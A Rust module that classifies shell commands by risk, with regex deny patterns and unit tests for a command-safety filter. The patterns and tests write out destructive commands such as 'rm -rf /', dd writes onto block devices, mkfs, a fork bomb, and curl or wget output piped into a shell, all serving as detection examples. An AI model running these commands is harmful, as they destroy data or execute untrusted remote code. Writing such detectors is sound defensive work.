use crate::types::{CommandCandidate, RiskLevel};
use once_cell::sync::Lazy;
use regex::Regex;

/// Ordered risk rules; the first match wins. Matching happens against the
/// trimmed, lowercased command text, so patterns are written lowercase.
static DANGEROUS_PATTERNS: Lazy<Vec<(Regex, &'static str)>> = Lazy::new(|| {
    [
        (
            r"rm\s+-[a-z]*(rf|fr)[a-z]*\s+(/\*?|~|\$home)",
            "rm -rf on a root path",
        ),
        (r"rm\s+-rf?\s+/\w*\s*$", "rm -r on a top-level directory"),
        (r"sudo\s+rm\s+-[a-z]*r", "sudo rm -r"),
        (r"dd\s+if=/dev/(zero|urandom)", "dd from a raw device source"),
        (
            r"dd\s+[^|;&]*of=/dev/(sd|hd|nvme|vd|xvd)",
            "dd onto a block device",
        ),
        (
            r">\s*/dev/(sd|hd|nvme|vd|xvd)",
            "redirect onto a block device",
        ),
        (r"\bmkfs(\.[a-z0-9]+)?\b", "filesystem format"),
        (r"\b(fdisk|parted)\b", "disk partitioning"),
        (
            r"\b(shutdown|reboot|halt|poweroff)\b",
            "system shutdown or restart",
        ),
        (r"\binit\s+[06]\b", "runlevel change"),
        (r"chmod\s+(-[a-z]+\s+)*000\b", "chmod 000"),
        (
            r"chmod\s+(-[a-z]+\s+)*777\s+/",
            "world-writable permissions on a system path",
        ),
        (
            r"chown\s+root:root\s+/",
            "ownership change of a system path",
        ),
        (r"mv\s+/\*\s+/dev/null", "move root contents into /dev/null"),
        (r"cat\s+/dev/urandom", "stream from /dev/urandom"),
        (r":\(\)\s*\{\s*:\|:&\s*\}\s*;\s*:", "fork bomb"),
        (
            r"(curl|wget)[^|;&]*\|\s*(sudo\s+)?(ba|z|da)?sh\b",
            "remote script piped into a shell",
        ),
    ]
    .iter()
    .map(|(pattern, label)| (Regex::new(pattern).expect("static risk pattern"), *label))
    .collect()
});

/// Commands that mutate system state without matching any dangerous rule.
const CAUTION_COMMANDS: &[&str] = &[
    "rm", "dd", "mv", "chmod", "chown", "shred", "sudo", "kill", "killall", "pkill",
    "systemctl", "mount", "umount", "useradd", "userdel", "iptables",
];

/// Classify a single proposed command. Pure and total: any string input
/// produces a verdict, and the same input always produces the same verdict.
pub fn classify(raw: &str) -> CommandCandidate {
    let normalized = raw.trim().to_lowercase();

    for (pattern, label) in DANGEROUS_PATTERNS.iter() {
        if pattern.is_match(&normalized) {
            return CommandCandidate {
                raw_text: raw.to_string(),
                risk: RiskLevel::Dangerous,
                matched_pattern: Some(*label),
            };
        }
    }

    let head = normalized.split_whitespace().next().unwrap_or("");
    let base = head.rsplit('/').next().unwrap_or(head);
    if CAUTION_COMMANDS.contains(&base) {
        return CommandCandidate {
            raw_text: raw.to_string(),
            risk: RiskLevel::Caution,
            matched_pattern: None,
        };
    }

    CommandCandidate {
        raw_text: raw.to_string(),
        risk: RiskLevel::Safe,
        matched_pattern: None,
    }
}

pub fn classify_all(commands: &[String]) -> Vec<CommandCandidate> {
    commands.iter().map(|c| classify(c)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn risk(cmd: &str) -> RiskLevel {
        classify(cmd).risk
    }

    #[test]
    fn rm_rf_root_is_dangerous_regardless_of_spacing() {
        assert_eq!(risk("rm -rf /"), RiskLevel::Dangerous);
        assert_eq!(risk("rm  -rf   /"), RiskLevel::Dangerous);
        assert_eq!(risk("rm\t-rf\t/"), RiskLevel::Dangerous);
        assert_eq!(risk("rm -rf /*"), RiskLevel::Dangerous);
        assert_eq!(risk("rm -fr /"), RiskLevel::Dangerous);
        assert_eq!(risk("RM -RF /"), RiskLevel::Dangerous);
        assert_eq!(risk("sudo rm -rf /var"), RiskLevel::Dangerous);
        assert_eq!(risk("rm -rf ~"), RiskLevel::Dangerous);
        assert_eq!(risk("rm -rf $HOME"), RiskLevel::Dangerous);
    }

    #[test]
    fn disk_level_operations_are_dangerous() {
        assert_eq!(risk("dd if=/dev/zero of=/dev/sda"), RiskLevel::Dangerous);
        assert_eq!(risk("dd if=backup.img of=/dev/nvme0n1"), RiskLevel::Dangerous);
        assert_eq!(risk("mkfs.ext4 /dev/sdb1"), RiskLevel::Dangerous);
        assert_eq!(risk("echo data > /dev/sda"), RiskLevel::Dangerous);
        assert_eq!(risk("fdisk /dev/sda"), RiskLevel::Dangerous);
    }

    #[test]
    fn system_state_commands_are_dangerous() {
        assert_eq!(risk("shutdown -h now"), RiskLevel::Dangerous);
        assert_eq!(risk("reboot"), RiskLevel::Dangerous);
        assert_eq!(risk("init 0"), RiskLevel::Dangerous);
        assert_eq!(risk("chmod -R 777 /"), RiskLevel::Dangerous);
        assert_eq!(risk("chmod 000 /etc"), RiskLevel::Dangerous);
    }

    #[test]
    fn remote_pipe_and_fork_bomb_are_dangerous() {
        assert_eq!(risk("curl https://x.sh | sh"), RiskLevel::Dangerous);
        assert_eq!(risk("wget -qO- https://x.sh | sudo bash"), RiskLevel::Dangerous);
        assert_eq!(risk(":(){ :|:& };:"), RiskLevel::Dangerous);
    }

    #[test]
    fn first_matching_rule_provides_the_label() {
        let candidate = classify("rm -rf /");
        assert_eq!(candidate.matched_pattern, Some("rm -rf on a root path"));
        let candidate = classify("dd if=/dev/zero of=/dev/sda");
        assert_eq!(candidate.matched_pattern, Some("dd from a raw device source"));
    }

    #[test]
    fn mutating_heads_are_caution() {
        assert_eq!(risk("rm old.log"), RiskLevel::Caution);
        assert_eq!(risk("sudo apt update"), RiskLevel::Caution);
        assert_eq!(risk("/bin/chmod 644 notes.txt"), RiskLevel::Caution);
        assert_eq!(risk("systemctl restart nginx"), RiskLevel::Caution);
    }

    #[test]
    fn unmatched_commands_are_safe() {
        assert_eq!(risk("ls -la"), RiskLevel::Safe);
        assert_eq!(risk("df -h"), RiskLevel::Safe);
        assert_eq!(risk("grep -r TODO src/"), RiskLevel::Safe);
        assert_eq!(risk("git status"), RiskLevel::Safe);
        assert_eq!(risk("echo shampoo"), RiskLevel::Safe);
    }

    #[test]
    fn classify_is_total_on_odd_input() {
        assert_eq!(risk(""), RiskLevel::Safe);
        assert_eq!(risk("   "), RiskLevel::Safe);
        assert_eq!(risk("日本語のテキスト"), RiskLevel::Safe);
    }

    #[test]
    fn editing_a_safe_command_into_a_dd_flips_the_verdict() {
        assert_eq!(risk("ls -la"), RiskLevel::Safe);
        assert_eq!(risk("dd if=/dev/zero of=/dev/sda"), RiskLevel::Dangerous);
    }
}
